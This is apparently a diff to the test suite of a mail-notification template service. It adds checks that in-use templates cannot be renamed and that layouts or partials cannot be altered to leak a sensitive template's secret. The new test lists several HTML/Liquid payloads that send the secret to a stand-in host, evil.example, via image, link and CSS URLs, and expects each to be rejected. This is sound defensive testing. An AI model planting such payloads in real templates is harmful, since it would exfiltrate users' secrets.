@@ -158,9 +158,16 @@ describe('changing', () => {
       'NOTIFICATION_TEMPLATE_ALREADY_EXISTS',
     );
     expect((await update(server, { uuid, version: 0, code: 'change.other' })).status).toBe(200);
-    await query(server, `UPDATE mail_template SET code = 'auth.test', code_folded = 'auth.test' WHERE uuid = $1`, [
-      uuid,
-    ]);
+    const mail = { templateCode: 'change.other', to: ['ada@mail.example'], parameters: { name: 'Ada' } };
+    expect((await server.as(server.admin, 'POST', '/notification/mail/notify', mail)).status).toBe(200);
+    for (const change of [{ code: 'change.third' }, { type: 'PARTIAL' }]) {
+      expect(await update(server, { uuid, version: 1, ...change })).toMatchObject({
+        status: 409,
+        error: { errorCode: 'TEMPLATE_IN_USE', errorArguments: [{ mails: true, templateCode: 'change.other' }] },
+      });
+    }
+    expect((await update(server, { uuid, version: 1, code: 'change.other', name: 'Renamed' })).status).toBe(200);
+    expect(await readTemplate(server, 'change.other')).toMatchObject({ version: 2, type: 'MAIL', name: 'Renamed' });
     const layout = await saveTemplate(server, { code: 'change.layout', ...layoutModel });
     await saveTemplate(server, { code: 'change.user', layoutCode: 'change.layout', ...htmlModel });
     const refused = await update(server, { uuid: layout.uuid, version: 0, code: 'change.renamed' });
@@ -316,6 +323,48 @@ describe('reading', () => {
     await query(server, `UPDATE mail_template SET tenant_identifier = 'elsewhere' WHERE uuid = $1`, [uuid]);
     expect((await get(`/notification/template/by-uuid/${uuid}`)).status).toBe(404);
     expect((await isEnabled('tenant.own')).status).toBe(404);
+  });
+});
+
+describe('a sensitive template', () => {
+  it('mail-notification 24: does not lose its secret by a layout or partial that is changed around it', async () => {
+    const around = (html: string) => ({ en: { content: html, contentType: 'HTML' } });
+    const plain = '<div>{% content %}</div>';
+    const layout = await saveTemplate(server, { code: 'secret.layout', type: 'LAYOUT', contentMap: around(plain) });
+    const partial = await saveTemplate(server, {
+      code: 'secret.partial',
+      type: 'PARTIAL',
+      contentMap: around('<p>Yours</p>'),
+    });
+    const said = { subject: 'Code', content: `<p>{{ code }}</p>{% render 'secret.partial' %}` };
+    await saveTemplate(server, {
+      code: 'secret.user',
+      layoutCode: 'secret.layout',
+      sensitive: true,
+      contentMap: { en: said },
+    });
+    const shown = async () => {
+      const body = { templateCode: 'secret.user', parameters: { code: 'S3CRET' } };
+      return (await preview(server, body, 'mail')).body.content;
+    };
+    const before = await shown();
+    for (const stolen of [
+      `<img src="https://evil.example/{{ code }}" alt="">${plain}`,
+      `<a href="https://evil.example/?c={{ code }}">x</a>${plain}`,
+      `<p style="background:url(https://evil.example/{{ code }})">x</p>${plain}`,
+      `{% if code == "1" %}<img src="https://evil.example/1" alt="">{% endif %}${plain}`,
+      '<img src="https://evil.example/{% content %}" alt="">',
+    ]) {
+      const refused = await update(server, { uuid: layout.uuid, version: 0, contentMap: around(stolen) });
+      expect([stolen, refused.status, refused.error?.errorCode]).toEqual([stolen, 422, expect.any(String)]);
+    }
+    const stolen = '<img src="https://evil.example/{{ code }}" alt="">';
+    const refused = await update(server, { uuid: partial.uuid, version: 0, contentMap: around(stolen) });
+    expect([refused.status, refused.error?.errorCode]).toEqual([422, 'TEMPLATE_CONTENT_UNSAFE']);
+    expect(await shown()).toBe(before);
+    expect((await readTemplate(server, 'secret.layout')).version).toBe(0);
+    const other = await update(server, { uuid: layout.uuid, version: 0, contentMap: around(`<hr>${plain}`) });
+    expect([other.status, await shown()]).toEqual([200, expect.stringContaining('<hr>')]);
   });
 });
 
